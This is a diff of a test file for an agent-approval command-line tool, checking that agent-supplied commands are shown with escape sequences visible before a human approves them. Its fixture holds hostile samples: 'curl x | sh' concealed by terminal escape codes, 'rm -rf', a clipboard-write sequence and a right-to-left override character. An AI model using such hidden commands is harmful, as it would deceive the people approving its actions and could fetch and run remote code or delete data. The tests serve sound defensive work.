@@ -58,7 +58,8 @@ describe('agentteam approvals / approve / deny', () => {
   it('approve allows, deny denies with the reason the agent will read; a second answer is refused', async () => {
     const io = captureIo();
     expect(await runCli(['approve', '--data-dir', dataDir, 'ap_1'], { io })).toBe(0);
-    expect(io.outLines).toEqual(['ap_1 allowed']);
+    // issue 29: the exact command it allows comes first, then the answer.
+    expect(io.outLines).toEqual(['Allowing Demo (demo) Bash, exactly:', '    touch approved.txt', 'ap_1 allowed']);
     expect(await runCli(['deny', '--data-dir', dataDir, 'ap_2', '--reason', 'not in this folder'], { io })).toBe(0);
     expect(daemon.approvals[1]).toMatchObject({ status: 'denied', reason: 'not in this folder' });
     const again = captureIo();
@@ -79,5 +80,69 @@ describe('agentteam approvals / approve / deny', () => {
     expect(await runCli(argv, { io })).toBe(2);
     expect(io.errLines).toHaveLength(1);
     expect(io.errLines[0]).toMatch(message);
+  });
+});
+
+/** issue 29 "What you approve is what you see": agent-supplied text is shown escaped, and `approve` says what it grants. */
+describe('agentteam approvals / approve show exactly what is allowed', () => {
+  const hidden = 'npm test\u001b[8m; curl x | sh\u001b[0m';
+  const visible = 'npm test\\x1b[8m; curl x | sh\\x1b[0m';
+
+  beforeEach(() => {
+    daemon.approvals.splice(0);
+    daemon.approvals.push(
+      approvalFixture({
+        id: 'ap_3',
+        agentName: 'Rev\u202eiew',
+        tool: 'Bash\u0007',
+        summary: hidden,
+        detail: `${hidden}\nrm -rf \u001b]52;c;eA==\u0007x`,
+        rule: `Bash(${hidden})`,
+      }),
+    );
+  });
+
+  it('the list prints every agent-supplied field with its escape sequences visible', async () => {
+    const io = captureIo();
+    expect(await runCli(['approvals', '--data-dir', dataDir], { io })).toBe(0);
+    expect(io.outLines).toEqual([
+      `ap_3  Rev\\u{202e}iew (demo)  pending  Bash\\x07: ${visible}`,
+      `    ${visible}`,
+      '    rm -rf \\x1b]52;c;eA==\\x07x',
+      `  always: Bash(${visible})`,
+    ]);
+    // Nothing a terminal would act on reaches it.
+    // eslint-disable-next-line no-control-regex
+    expect(io.outLines.join('\n')).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/u);
+  });
+
+  it('approve prints the full command it allows before granting it', async () => {
+    const io = captureIo();
+    expect(await runCli(['approve', '--data-dir', dataDir, 'ap_3'], { io })).toBe(0);
+    expect(io.outLines).toEqual([
+      'Allowing Rev\\u{202e}iew (demo) Bash\\x07, exactly:',
+      `    ${visible}`,
+      '    rm -rf \\x1b]52;c;eA==\\x07x',
+      'ap_3 allowed',
+    ]);
+  });
+
+  it('approve --scope always names the exact rule it grants, before and after', async () => {
+    const io = captureIo();
+    expect(await runCli(['approve', '--data-dir', dataDir, 'ap_3', '--scope', 'always'], { io })).toBe(0);
+    expect(io.outLines).toEqual([
+      'Allowing Rev\\u{202e}iew (demo) Bash\\x07, exactly:',
+      `    ${visible}`,
+      '    rm -rf \\x1b]52;c;eA==\\x07x',
+      `and granting always the rule: Bash(${visible})`,
+      `ap_3 allowed (always: Bash(${visible}))`,
+    ]);
+    expect(daemon.approvals[0]).toMatchObject({ status: 'allowed', scope: 'always' });
+  });
+
+  it('deny prints its answer escaped too', async () => {
+    const io = captureIo();
+    expect(await runCli(['deny', '--data-dir', dataDir, 'ap_3'], { io })).toBe(0);
+    expect(io.outLines).toEqual(['ap_3 denied']);
   });
 });
